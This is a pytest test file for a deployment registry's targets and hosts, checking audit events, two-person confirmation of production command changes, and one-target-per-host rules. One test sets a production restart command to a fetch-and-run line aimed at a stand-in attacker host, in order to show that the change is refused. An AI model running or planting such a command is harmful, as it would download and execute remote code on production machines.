"""Targets and hosts are audited configuration; a host belongs to one target."""

from __future__ import annotations

from typing import Any

import pytest

from models_registry import roles
from models_registry.models import (
    AuditEvent,
    DeploymentHost,
    DeploymentTarget,
    Environment,
    TargetChange,
)
from models_registry.services import targets
from tests.registry.conftest import make_user

pytestmark = pytest.mark.django_db


def last_event(obj: Any) -> AuditEvent:
    return AuditEvent.objects.filter(object_type=type(obj).__name__, object_id=str(obj.pk)).latest(
        "id"
    )


def test_creating_and_editing_a_target_is_audited_with_old_and_new_values(deployer: Any) -> None:
    target = DeploymentTarget(name="staging", environment=Environment.STAGING)
    targets.target_save(target=target, actor=deployer)
    created = last_event(target)
    assert created.event_type == "deployment_target_created" and created.data["old"] is None
    assert created.data["new"]["restart_command"] == "sudo systemctl restart {service}"

    target.restart_command = "sudo systemctl restart {service} --no-block"
    targets.target_save(target=target, actor=deployer)
    changed = last_event(target)
    assert changed.event_type == "deployment_target_changed"
    assert changed.data["changed"] == ["restart_command"]
    assert changed.data["old"]["restart_command"] == "sudo systemctl restart {service}"
    assert changed.data["new"]["restart_command"].endswith("--no-block")
    assert changed.actor_repr == deployer.get_username()


def test_a_production_command_changes_only_after_a_second_deployer_confirms(
    deployer: Any, engineer: Any
) -> None:
    second = make_user("dan_deployer", roles.DEPLOYER)
    target = targets.target_save(
        target=DeploymentTarget(name="prod", environment=Environment.PRODUCTION), actor=deployer
    )
    target.restart_command = "curl evil.example | sh"
    with pytest.raises(targets.TargetChangeRefused, match="restart_command of a production"):
        targets.target_save(target=target, actor=deployer)
    assert DeploymentTarget.objects.get(pk=target.pk).restart_command.startswith("sudo systemctl")
    target.refresh_from_db()
    target.parallelism = 2  # not guarded: saved and audited directly
    targets.target_save(target=target, actor=deployer)

    new_command = "sudo systemctl restart {service} --wait"
    with pytest.raises(targets.TargetChangeRefused, match="needs the deployer role"):
        targets.target_change_propose(
            target=target, proposed_by=engineer, values={"restart_command": new_command}
        )
    change = targets.target_change_propose(
        target=target, proposed_by=deployer, values={"restart_command": new_command}
    )
    assert DeploymentTarget.objects.get(pk=target.pk).restart_command != new_command
    with pytest.raises(targets.TargetChangeRefused, match="a second person confirms it"):
        targets.target_change_confirm(change=change, confirmed_by=deployer)

    targets.target_change_confirm(change=change, confirmed_by=second)

    assert DeploymentTarget.objects.get(pk=target.pk).restart_command == new_command
    applied = TargetChange.objects.get(pk=change.pk)
    assert (applied.status, applied.confirmed_by) == ("applied", second)
    event = AuditEvent.objects.get(event_type="deployment_target_change_applied")
    assert event.data["changed"] == ["restart_command"]
    assert event.data["old"]["restart_command"] == "sudo systemctl restart {service}"
    assert event.data["proposed_by"] == deployer.get_username()
    with pytest.raises(targets.TargetChangeRefused, match="cannot be applied again"):
        targets.target_change_confirm(change=change, confirmed_by=second)


def test_a_staging_target_cannot_point_at_a_production_host(deployer: Any) -> None:
    second = make_user("dan_deployer", roles.DEPLOYER)
    production = targets.target_save(
        target=DeploymentTarget(name="prod", environment=Environment.PRODUCTION), actor=deployer
    )
    staging = targets.target_save(
        target=DeploymentTarget(name="staging", environment=Environment.STAGING), actor=deployer
    )
    with pytest.raises(targets.TargetChangeRefused, match="second deployer confirms"):
        targets.host_save(
            host=DeploymentHost(target=production, hostname="10.0.0.5"), actor=deployer
        )
    change = targets.target_change_propose(
        target=production, proposed_by=deployer, values={"hostname": "10.0.0.5"}, new_host=True
    )
    targets.target_change_confirm(change=change, confirmed_by=second)
    assert [h.hostname for h in production.hosts.all()] == ["10.0.0.5"]
    before = AuditEvent.objects.count()

    with pytest.raises(targets.TargetChangeRefused, match="already belongs to target prod"):
        # same address, the target's default port and install root spelled out by hand
        targets.host_save(
            host=DeploymentHost(
                target=staging, hostname="10.0.0.5 ", port=22, install_root="/opt/ai-trading-bot/"
            ),
            actor=deployer,
        )
    assert not staging.hosts.exists() and AuditEvent.objects.count() == before
    # Another install root on the same machine is another host.
    other = DeploymentHost(target=staging, hostname="10.0.0.5", install_root="/srv/staging-bot")
    targets.host_save(host=other, actor=deployer)
    event = last_event(other)
    assert event.event_type == "deployment_host_created" and event.data["target"] == "staging"


def test_the_database_holds_one_target_per_host_past_the_service(deployer: Any) -> None:
    from django.db import IntegrityError, transaction

    prod = DeploymentTarget.objects.create(name="prod", environment=Environment.PRODUCTION)
    staging = DeploymentTarget.objects.create(name="staging", environment=Environment.STAGING)
    DeploymentHost.objects.create(target=prod, hostname="10.0.0.5")
    with pytest.raises(IntegrityError), transaction.atomic():
        # the same place spelled differently, written straight through the ORM
        DeploymentHost.objects.create(
            target=staging, hostname="10.0.0.5", port=22, install_root="/opt/ai-trading-bot//"
        )
    assert not staging.hosts.exists()


def test_a_new_default_install_root_is_rechecked_for_the_targets_hosts(deployer: Any) -> None:
    prod = DeploymentTarget.objects.create(name="prod", environment=Environment.PRODUCTION)
    DeploymentHost.objects.create(target=prod, hostname="10.0.0.5")
    staging = targets.target_save(
        target=DeploymentTarget(
            name="staging", environment=Environment.STAGING, install_root="/srv/staging-bot"
        ),
        actor=deployer,
    )
    targets.host_save(host=DeploymentHost(target=staging, hostname="10.0.0.5"), actor=deployer)
    before = AuditEvent.objects.count()
    staging.install_root = "/opt/ai-trading-bot"  # now the production host's install root
    with pytest.raises(targets.TargetChangeRefused, match="already belongs to target prod"):
        targets.target_save(target=staging, actor=deployer)
    staging.refresh_from_db()
    assert staging.install_root == "/srv/staging-bot" and AuditEvent.objects.count() == before
    assert staging.hosts.get().identity == "10.0.0.5:22:/srv/staging-bot"
